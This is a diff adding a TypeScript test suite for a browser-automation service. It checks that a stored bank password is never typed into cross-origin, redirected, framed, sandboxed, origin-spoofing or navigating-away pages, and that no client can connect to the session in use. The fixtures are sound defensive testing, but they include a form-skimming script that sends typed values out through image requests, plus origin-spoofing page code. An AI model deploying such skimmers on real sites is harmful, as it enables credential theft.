@@ -1,0 +1,228 @@
+// Pages that want a credential of another origin get nothing: not directly, after a redirect, in frames, by a lie about their origin,
+// or by a navigation that races with the step. And no client gets to a session into which credentials are typed.
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import type { Invocation } from '../../contract/invocations.ts';
+import type { DebugUrls } from '../../contract/live.ts';
+import { refusedUpgrade } from '../harness/cdp.ts';
+import { Owner } from '../harness/configured.ts';
+import { liftLimits } from '../harness/limits.ts';
+import { agentPath, invoke, keyWith } from '../harness/operations.ts';
+import { openPages, type Page } from '../harness/pages.ts';
+import { startServer } from '../harness/server.ts';
+import { eventually } from '../harness/until.ts';
+
+const PASSWORD = 'Zq8!unlikely secret';
+const FIELD = '<input id="password" oninput="void 0">';
+/** Sends whatever appears in a field, however it got there. */
+const THIEF = `<script>
+  const sent = new Set();
+  const steal = value => { if (value && !sent.has(value)) { sent.add(value); new Image().src = '/stolen?' + encodeURIComponent(value) } };
+  for (const type of ['input', 'change', 'beforeinput']) addEventListener(type, ({ target, data }) => { steal(target.value); steal(data) }, true);
+  setInterval(() => { for (const { value } of document.querySelectorAll('input, textarea')) steal(value) }, 5);
+</script>`;
+const page = (body: string): string => `<!doctype html><title>Page</title>${body}`;
+const withHeaders =
+  (headers: Readonly<Record<string, string>>, body: string): Page =>
+  (_, response) =>
+    void response.writeHead(200, { 'content-type': 'text/html; charset=utf-8', ...headers }).end(body);
+
+const pages = await openPages({
+  '/thief': page(THIEF + FIELD),
+  '/to-thief': (request, response) =>
+    void response.writeHead(302, { location: `http://b.test:${request.socket.localPort}/thief` }).end(),
+  '/bank': page(FIELD),
+});
+const bank = pages.a;
+pages.set('/holds-thief', page(`<iframe id="frame" src="${pages.b}/thief"></iframe>`));
+pages.set('/holds-bank', page(`${THIEF}<iframe id="frame" src="${bank}/bank"></iframe>`));
+pages.set('/holds-both', page(`<iframe id="outer" src="${pages.b}/holds-bank"></iframe>`));
+pages.set('/data', page(`<iframe id="frame" src="data:text/html,${encodeURIComponent(FIELD)}"></iframe>`));
+pages.set(
+  '/blank',
+  page(`${THIEF}<iframe id="frame"></iframe><script>frame.contentDocument.body.innerHTML = '${FIELD}'</script>`),
+);
+pages.set('/sandboxed-frame', page(`<iframe id="frame" sandbox="allow-scripts" src="/bank"></iframe>`));
+pages.set('/sandboxed', withHeaders({ 'content-security-policy': 'sandbox allow-scripts' }, page(THIEF + FIELD)));
+pages.set(
+  '/liar',
+  page(`${THIEF}<script>
+    window.origin = ${JSON.stringify(bank)};
+    Object.defineProperty(window, 'origin', { value: ${JSON.stringify(bank)} });
+    Array.prototype.includes = () => true;
+    Array.prototype.find = () => undefined;
+    Object.prototype.is = 'typed';
+  </script><img name="querySelector"><img name="defaultView"><iframe name="origin"></iframe>${FIELD}`),
+);
+pages.set(
+  '/relaxed',
+  withHeaders(
+    { 'origin-agent-cluster': '?0' },
+    page(`${THIEF}<script>try { document.domain = 'a.test' } catch {}</script>${FIELD}`),
+  ),
+);
+/** Leaves for the thief as soon as something happens to its field. */
+pages.set(
+  '/leaves-on-mark',
+  page(`${FIELD}<script>
+  new MutationObserver(() => location.replace('${pages.b}/thief')).observe(password, { attributes: true })</script>`),
+);
+pages.set(
+  '/leaves-on-focus',
+  page(`${FIELD}<script>
+  password.onfocus = () => location.replace('${pages.b}/thief')</script>`),
+);
+pages.set(
+  '/leaves-later',
+  page(`${FIELD}<script>
+  setTimeout(() => location.replace('${pages.b}/thief'), Number(location.hash.slice(1)))</script>`),
+);
+/** Moves the field into a document of its own, with another origin. */
+pages.set(
+  '/moves',
+  page(`<iframe id="frame" sandbox="allow-same-origin" src="about:blank"></iframe>${FIELD}<script>
+  new MutationObserver(() => frame.contentDocument.body.append(password)).observe(password, { attributes: true })</script>`),
+);
+
+const { port } = pages;
+const server = await startServer({
+  pages,
+  env: { BERTH_SLOTS: '4', BERTH_EGRESS_HOSTS: `${pages.settings.BERTH_EGRESS_HOSTS},sub.a.test=127.0.0.1` },
+});
+await liftLimits(server);
+const owner = await Owner.of(server);
+const wrote = await owner.write('bank', {
+  type: 'login',
+  value: { username: 'mara@bank', password: PASSWORD },
+  origins: [bank],
+});
+assert.equal(wrote.status, 201, wrote.text);
+const { key } = await keyWith(server, {
+  scopes: [
+    'operations:discover',
+    'operations:invoke',
+    'invocations:read',
+    'browsers:connect',
+    'browsers:read',
+    'browsers:write',
+  ],
+  grants: [
+    { operationId: 'browser.steps', credentials: ['bank'] },
+    { operationId: '*', effect: 'read' },
+  ],
+});
+let calls = 0;
+const steps = (url: string, all: readonly object[], more: object = {}) => {
+  calls += 1;
+  const headers = { 'idempotency-key': `call ${calls}`, ...more };
+  return invoke(server, key, 'browser.steps', { url, steps: all, timeoutMs: 20_000 }, { headers });
+};
+const fill = (selector: string) => ({ do: 'fill', selector, credential: 'bank', field: 'password' });
+const enter = (...frames: string[]): string =>
+  [...frames.flatMap(frame => [frame, 'internal:control=enter-frame']), '#password'].join(' >> ');
+const assertNothingStolen = (): void => assert.equal(pages.hits('/stolen'), 0);
+
+const REFUSED: ReadonlyArray<readonly [what: string, url: string, selector: string]> = [
+  ['a page of another origin', `${pages.b}/thief`, '#password'],
+  ['a page at an address of the same server', `${pages.url}/thief`, '#password'],
+  ['a page of a subdomain', `http://sub.a.test:${port}/thief`, '#password'],
+  ['a page of a subdomain that relaxes its domain', `http://sub.a.test:${port}/relaxed`, '#password'],
+  ['a redirect to another origin', `${bank}/to-thief`, '#password'],
+  ['a frame of another origin in a page of the origin', `${bank}/holds-thief`, enter('#frame')],
+  ['a frame of the origin in a page of another', `${pages.b}/holds-bank`, enter('#frame')],
+  ['a frame of the origin in one of another in a page of the origin', `${bank}/holds-both`, enter('#outer', '#frame')],
+  ['a frame of a data: address', `${bank}/data`, enter('#frame')],
+  ['a frame without an address in a page of another origin', `${pages.b}/blank`, enter('#frame')],
+  ['a sandboxed frame', `${bank}/sandboxed-frame`, enter('#frame')],
+  ['a sandboxed page', `${bank}/sandboxed`, '#password'],
+];
+
+for (const [what, url, selector] of REFUSED)
+  test(`types nothing into ${what}`, async () => {
+    const { body, text } = await steps(url, [fill(selector), { do: 'sleep', ms: 100 }]);
+    assert.deepEqual([body.status, body.error?.code], ['failed', 'input_not_granted'], text);
+    assert.equal(Object(body.error?.details).step, 0);
+    assert.match(body.error?.message ?? '', /may not be typed into a page of .*Nothing was typed/);
+    assert.ok(!text.includes(PASSWORD));
+    assertNothingStolen();
+  });
+
+test('types nothing into a page that lies about its origin', async () => {
+  const { body, text } = await steps(`${pages.b}/liar`, [fill('#password'), { do: 'sleep', ms: 200 }]);
+  assert.equal(body.status, 'failed', text);
+  assertNothingStolen();
+});
+
+test('types nothing where a page went while the step was under way', async () => {
+  const leaving = [
+    '/leaves-on-mark',
+    '/leaves-on-focus',
+    ...Array.from({ length: 12 }, (_, turn) => `/leaves-later#${60 + 15 * turn}`),
+  ];
+  const wait = { do: 'waitFor', selector: '#password' };
+  for (let at = 0; at < leaving.length; at += 3)
+    await Promise.all(
+      leaving.slice(at, at + 3).map(async path => {
+        const { body, text } = await steps(`${bank}${path}`, [fill('#password'), { do: 'sleep', ms: 300 }, wait]);
+        assert.ok(
+          body.status === 'succeeded' ||
+            body.error?.code === 'input_not_granted' ||
+            body.error?.code === 'not_possible',
+          text,
+        );
+      }),
+    );
+  assertNothingStolen();
+});
+
+test('types nothing into a field that its page moves to another document', async () => {
+  const { body, text } = await steps(`${bank}/moves`, [fill('#password')]);
+  assert.equal(body.status, 'failed', text);
+  assertNothingStolen();
+});
+
+test('admits no client, viewer in control, tool or other call to a session that credentials are typed into', async () => {
+  const all = [fill('#password'), { do: 'sleep', ms: 8_000 }];
+  const { body: made, text } = await steps(`${bank}/bank`, all, { prefer: 'respond-async' });
+  const read = () => server.api<Invocation>('GET', agentPath(server, `invocations/${made.id}`), { key });
+  const { body: running } = await eventually(
+    'the session of the call',
+    read,
+    ({ body }) => body.sessionId !== undefined,
+  );
+  const id = running.sessionId ?? assert.fail(text);
+  const { body: session } = await server.api<{ connectUrl: string }>('GET', `/v1/browsers/sessions/${id}`, { key });
+  assert.match(session.connectUrl, /signingKey=/);
+  for (const url of [
+    session.connectUrl,
+    `${session.connectUrl}&pass=`,
+    `${session.connectUrl}&pass=${'A'.repeat(43)}`,
+  ]) {
+    const refused = await refusedUpgrade(url);
+    assert.deepEqual([refused.status, refused.body.code], [403, 'permission_denied']);
+  }
+  const version = await fetch(session.connectUrl.replace(/^ws/, 'http').replace('/connect?', '/connect/json/version?'));
+  assert.notEqual(version.status, 200);
+  const other = await invoke(server, key, 'browser.content', { sessionId: id });
+  assert.deepEqual([other.status, other.body.code], [403, 'permission_denied'], other.text);
+  const { body: live } = await server.api<DebugUrls>('GET', `/v1/browsers/sessions/${id}/debug`, { key });
+  assert.equal(live.wsUrl, undefined);
+  const mine = { do: 'fill', selector: '#password', credential: 'bank', field: 'password' };
+  const { id: own } = await server.createSession({ keepAlive: true });
+  calls += 1;
+  const bySession = await invoke(
+    server,
+    key,
+    'browser.steps',
+    { sessionId: own, steps: [mine] },
+    { headers: { 'idempotency-key': `call ${calls}` } },
+  );
+  assert.deepEqual([bySession.status, bySession.body.code], [403, 'input_not_granted'], bySession.text);
+  await server.release(own);
+  const { body: ended, text: end } = await eventually(
+    'the end of the call',
+    read,
+    ({ body }) => body.status !== 'running',
+  );
+  assert.equal(ended.status, 'succeeded', end);
+});
